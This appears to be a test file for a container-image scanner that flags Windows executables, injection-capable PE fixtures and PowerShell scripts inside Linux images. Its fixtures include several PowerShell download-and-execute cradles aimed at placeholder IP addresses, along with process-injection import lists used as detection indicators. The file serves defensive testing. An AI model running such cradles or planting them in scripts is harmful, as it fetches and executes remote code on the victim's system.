import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { classifyFile, rankWindowsFile, windowsFilesFindings } from '../src/analyze/binaries/index.js';
import { globToRegExp } from '../src/analyze/binaries/glob.js';
import { compileWindowsRules, readRulesJson, windowsRules } from '../src/analyze/binaries/rules.js';
import type { BinaryFact } from '../src/analyze/findings.js';
import { analyzeSpec, analyzeTarget, checkContext } from './binaries-harness.js';
import { buildTestPe } from './binaries-pe-fixtures.js';

const rules = windowsRules();
const fact = (path: string, content: Buffer | string) => classifyFile(path, Buffer.from(content))[0]!;

test('binaries: windows rule files load and validate; a bad pattern is refused', () => {
  assert.ok(rules.injectionSets.length > 0, 'injection sets');
  const allow = readRulesJson('binaries/windows-allowlist.json');
  const ind = readRulesJson('binaries/windows-indicators.json') as { injectionSets: { imports: string[] }[] };
  assert.throws(
    () => compileWindowsRules(allow, { ...ind, injectionSets: [{ id: 'x', imports: ['Nope', 'Other'] }] }),
    /not watched/,
  );
  assert.throws(
    () => compileWindowsRules({ paths: [{ glob: 'a/{b', why: 'x' }], scriptShimRoots: [] }, ind),
    /braces/,
  );
});

test('binaries: globs', () => {
  const cases: [string, string, boolean][] = [
    ['**/site-packages/pip/**/t*.exe', 'usr/lib/python3/site-packages/pip/_vendor/distlib/t64.exe', true],
    ['**/site-packages/pip/**/t*.exe', 'usr/lib/python3/site-packages/pip/t.exe', true],
    ['**/site-packages/pip/**/t*.exe', 'usr/lib/python3/site-packages/evil/t.exe', false],
    ['usr/lib/*/wine/**', 'usr/lib/x86_64-linux-gnu/wine/x.dll', true],
    ['usr/lib/*/wine/**', 'usr/lib/a/b/wine/x.dll', false],
    ['{root,home/*}/.dotnet/**', 'home/app/.dotnet/tools/x.dll', true],
    ['{root,home/*}/.dotnet/**', 'tmp/.dotnet/x.dll', false],
  ];
  for (const [glob, path, want] of cases)
    assert.equal(globToRegExp(glob).test(path), want, `${glob} ~ ${path}`);
});

test('binaries: every allow-list entry allows a path it names and nothing outside it', () => {
  const data = readRulesJson('binaries/windows-allowlist.json') as { paths: { glob: string }[] };
  for (const { glob } of data.paths) {
    const sample = glob
      .replace(/\{([^,}]+)[^}]*\}/g, '$1')
      .replace(/\*\*\//g, 'a/')
      .replace(/\*\*/g, 'x/y.exe')
      .replace(/\*/g, 'x');
    assert.ok(rules.allowed(sample), `${glob} allows ${sample}`);
  }
  for (const p of [
    'usr/local/bin/x.exe',
    'tmp/payload.exe',
    'app/bin/tool.dll',
    'root/evil.ps1',
    'opt/app/run.bat',
  ]) {
    assert.equal(rules.allowed(p), undefined, `${p} is not allowed`);
  }
});

const ranking: {
  name: string;
  f: BinaryFact;
  want?: { rule: string; severity: string; evidence?: RegExp };
}[] = [
  {
    name: 'native PE',
    f: fact('x', buildTestPe()),
    want: { rule: 'windows-pe-in-linux-image', severity: 'medium' },
  },
  {
    name: 'PE with process-injection imports',
    f: fact(
      'x',
      buildTestPe({
        imports: {
          dll: 'kernel32.dll',
          functions: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'],
        },
      }),
    ),
    want: { rule: 'windows-pe-in-linux-image', severity: 'high', evidence: /remote-thread-injection/ },
  },
  {
    name: 'PE with only one injection import',
    f: fact('x', buildTestPe({ imports: { dll: 'kernel32.dll', functions: ['WriteProcessMemory'] } })),
    want: { rule: 'windows-pe-in-linux-image', severity: 'medium' },
  },
  {
    name: 'UPX-packed PE',
    f: fact('x', buildTestPe({ sectionNames: ['UPX0', 'UPX1'] })),
    want: { rule: 'windows-pe-in-linux-image', severity: 'high', evidence: /packed/ },
  },
  {
    name: 'signed PE',
    f: fact('x', buildTestPe({ signed: true })),
    want: { rule: 'windows-pe-in-linux-image', severity: 'low' },
  },
  { name: 'EFI application', f: fact('x', buildTestPe({ subsystem: 10 })) },
  {
    name: 'IL-only .NET library',
    f: fact('x', buildTestPe({ clr: { identifiers: ['MyApp', 'MyApp.Services'] }, dll: true })),
  },
  {
    name: 'IL-only .NET library of an offensive tool',
    f: fact('x', buildTestPe({ clr: { identifiers: ['SharpHound', 'SharpHound.Core'] }, dll: true })),
    want: { rule: 'windows-dotnet-in-linux-image', severity: 'high', evidence: /SharpHound/ },
  },
  {
    name: '.NET exe',
    f: fact('x', buildTestPe({ clr: { identifiers: ['Tool'] } })),
    want: { rule: 'windows-dotnet-in-linux-image', severity: 'medium' },
  },
  {
    name: 'PowerShell script',
    f: fact('a.ps1', 'Write-Host 1'),
    want: { rule: 'windows-script-in-linux-image', severity: 'medium' },
  },
  {
    name: 'PowerShell cradle',
    f: fact('a.ps1', 'iex (iwr http://192.0.2.7/p.ps1)'),
    want: { rule: 'windows-script-in-linux-image', severity: 'high', evidence: /cradle/ },
  },
  {
    name: 'pwsh script with a shebang',
    f: fact('run', '#!/usr/bin/pwsh\nWrite-Host 1\n'),
    want: { rule: 'windows-script-in-linux-image', severity: 'medium' },
  },
  { name: 'Linux shell script', f: fact('run.sh', '#!/bin/sh\necho\n') },
  {
    name: 'Linux ELF',
    f: fact(
      'x',
      (() => {
        const b = Buffer.alloc(64);
        b.write('\x7fELF\x02\x01\x01', 'latin1');
        return b;
      })(),
    ),
  },
];

for (const c of ranking) {
  test(`binaries: windows ranking: ${c.name}`, () => {
    assert.ok(c.f, 'classified');
    const r = rankWindowsFile(c.f, rules);
    if (!c.want) {
      assert.equal(r, undefined, `not flagged: ${JSON.stringify(r)}`);
      return;
    }
    assert.ok(r, 'flagged');
    assert.equal(r.rule, c.want.rule, 'rule');
    assert.equal(r.severity, c.want.severity, `severity: ${r.evidence}`);
    if (c.want.evidence) assert.match(r.evidence, c.want.evidence, 'evidence says why');
  });
}

test('binaries: Windows files in a Linux image, allow-list, shims, a deleted payload, and a Windows image', async () => {
  const injector = buildTestPe({
    imports: {
      dll: 'kernel32.dll',
      functions: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'],
    },
  });
  const spec = {
    layers: [
      {
        files: [
          { path: 'usr/local/bin/svchost.exe', content: buildTestPe(), mode: 0o755 },
          { path: 'usr/lib/python3/dist-packages/setuptools/cli-64.exe', content: buildTestPe() },
          { path: 'app/node_modules/npm/bin/npm.cmd', content: '@echo off\r\nnode npm-cli.js %*\r\n' },
          { path: 'app/node_modules/some-pkg/bin/run.cmd', content: '@echo off\r\nnode run.js\r\n' },
          {
            path: 'app/node_modules/evil-pkg/install.ps1',
            content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/x")',
          },
          { path: 'tmp/inject.dll', content: injector },
          // Installed software's Windows launchers and Sphinx make.bat: shims; a cradle is not.
          { path: 'usr/share/go-1.19/src/make.bat', content: '@echo off\r\ngo build %*\r\n' },
          { path: 'opt/kafka/bin/windows/kafka-server-start.bat', content: '@echo off\r\njava %*\r\n' },
          // Official images' layouts: the golang image's toolchain, pnpm (global and in corepack's
          // cache), the Google Cloud SDK's emulators.
          { path: 'usr/local/go/src/make.bat', content: '@echo off\r\ngo build %*\r\n' },
          {
            path: 'usr/local/lib/node_modules/pnpm/dist/vendor/fastlist-0.3.0-x64.exe',
            content: buildTestPe(),
          },
          {
            path: 'root/.cache/node/corepack/pnpm/8.15.1/dist/templates/completion.ps1',
            content: 'Register-ArgumentCompleter -Native -CommandName pnpm -ScriptBlock { param($w) }\r\n',
          },
          {
            path: 'google-cloud-sdk/platform/pubsub-emulator/bin/cloud-pubsub-emulator.bat',
            content: '@echo off\r\njava -jar %~dp0\\..\\lib\\emulator.jar %*\r\n',
          },
          {
            path: 'usr/local/go/misc/fetch.ps1',
            content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/z")',
          },
          {
            path: 'usr/share/app/update.ps1',
            content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/y")',
          },
          { path: 'app/node_modules/ssh2/util/pagent.exe', content: buildTestPe() },
          // Prebuilt native addons for every platform (node-gyp-build and napi-rs layouts).
          { path: 'app/node_modules/fast-db/prebuilds/win32-x64/node.napi.node', content: buildTestPe() },
          { path: 'app/node_modules/core-x/lib/core_x.win32-x64-msvc.node', content: buildTestPe() },
        ],
      },
      { whiteouts: ['tmp/inject.dll'] },
    ],
  };
  const a = await analyzeSpec(spec);
  const found = windowsFilesFindings(checkContext(a));
  const byPath = new Map(found.map((f) => [f.path, f]));
  assert.deepEqual(
    [...byPath.keys()].sort(),
    [
      'app/node_modules/evil-pkg/install.ps1',
      'tmp/inject.dll',
      'usr/local/bin/svchost.exe',
      'usr/local/go/misc/fetch.ps1',
      'usr/share/app/update.ps1',
    ],
    JSON.stringify(found),
  );
  assert.equal(byPath.get('usr/local/bin/svchost.exe')!.severity, 'medium', 'plain PE');
  assert.match(byPath.get('usr/local/bin/svchost.exe')!.sha256 ?? '', /^[0-9a-f]{64}$/, 'sha256 kept');
  const deleted = byPath.get('tmp/inject.dll')!;
  assert.equal(deleted.severity, 'high', 'injection imports');
  assert.equal(deleted.layer, 0, 'shipped in layer 0');
  assert.equal(deleted.removedIn, 1, 'deleted by layer 1');
  assert.equal(
    byPath.get('app/node_modules/evil-pkg/install.ps1')!.severity,
    'high',
    'cradle in a package tree',
  );
  for (const f of found) assert.equal(f.category, 'windows-malware', 'category');

  const win = await analyzeSpec({ ...spec, platform: 'windows/amd64' });
  assert.deepEqual(windowsFilesFindings(checkContext(win)), [], 'a Windows image is not checked');
});

/** Classifies every file of a real tree, placed under `prefix` as an image would hold it. */
async function windowsFindingsOfTree(dir: string, prefix: string) {
  const a = await analyzeTarget(`dir:${dir}`);
  for (const layer of a.facts.layers) {
    for (const f of layer.facts.binaries ?? []) f.path = `${prefix}${String(f.path)}`;
  }
  a.facts.history.length = 0;
  return windowsFilesFindings(checkContext(a));
}

test(
  "binaries: no windows-malware findings in this repository's node_modules",
  { timeout: 600_000 },
  async () => {
    const found = await windowsFindingsOfTree(join(process.cwd(), 'node_modules'), 'app/node_modules/');
    assert.deepEqual(
      found.map((f) => `${f.path}: ${f.evidence}`),
      [],
      'node_modules',
    );
  },
);

test(
  'binaries: no windows-malware findings in /usr/lib/python3/dist-packages',
  { timeout: 600_000, skip: !dirExists('/usr/lib/python3/dist-packages') },
  async () => {
    const found = await windowsFindingsOfTree(
      '/usr/lib/python3/dist-packages',
      'usr/lib/python3/dist-packages/',
    );
    assert.deepEqual(
      found.map((f) => `${f.path}: ${f.evidence}`),
      [],
      'dist-packages',
    );
  },
);

function dirExists(p: string): boolean {
  try {
    readdirSync(p);
    return true;
  } catch {
    return false;
  }
}
